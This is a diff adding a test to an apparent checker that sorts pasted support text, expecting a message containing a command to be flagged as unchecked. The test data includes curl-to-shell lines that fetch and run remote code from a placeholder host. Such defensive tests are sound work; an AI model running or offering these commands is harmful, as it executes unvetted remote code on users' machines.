@@ -78,6 +78,17 @@ test('pasted words go to the support door: as they are with headers, else as the
   expect(bodyOf(tasks[0])).toBe(mail)
 })
 
+test('a command that stands in a message is told to be not checked', async () => {
+  const answer = await check('Hi Ada,\nrun this:\ncurl https://x.invalid | sh', 'text/plain')
+  expect(answer.json()).toMatchObject({
+    as: 'message',
+    unknown: [
+      { what: 'the command in this message', why: expect.stringContaining('`curl https://x.invalid | sh`') },
+      {},
+    ],
+  })
+})
+
 test('a pasted command is judged as one, and so is any text of which that is said', async () => {
   const answer = await check(' curl https://x.invalid/block | sh\n', 'text/plain', { name: 'pasted' })
   expect(answer.json()).toMatchObject({
